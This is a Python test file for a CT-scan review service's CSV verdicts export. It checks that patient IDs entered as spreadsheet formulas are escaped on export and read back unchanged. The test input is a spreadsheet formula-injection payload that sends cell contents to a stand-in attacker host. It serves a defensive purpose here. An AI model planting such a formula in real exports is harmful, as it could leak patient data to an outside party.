"""The verdicts export (a manifest for ``covidscan adapt``) is safe to open in a spreadsheet (issue 13, 4)."""

from __future__ import annotations

import csv
import io

from covidscan.data import read_manifest

PATIENT = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_patient_ids_typed_as_formulas_are_escaped_and_read_back(service, ct_slices) -> None:
    case_id = service.upload("lab", ct_slices[0:1], patient_id=PATIENT).json()["id"]
    service.wait(case_id)
    signed = service.client.post(f"/api/v1/cases/{case_id}/review", headers=service.auth("doctor"),
                                 json={"agree": False, "finding": "covid", "sign": True})
    assert signed.status_code == 200
    export = service.client.get("/api/v1/export/verdicts.csv", headers=service.auth("admin"))
    rows = list(csv.reader(io.StringIO(export.text)))
    assert rows[0] == ["path", "label", "patient_id", "site"]
    assert [r[2] for r in rows[1:]] == ["'" + PATIENT]  # a spreadsheet shows it as text, never runs it
    manifest = service.data_dir / "verdicts.csv"
    manifest.write_text(export.text, encoding="utf-8")
    assert read_manifest(manifest)["patient_id"].tolist() == [PATIENT]  # adapt sees the id as typed
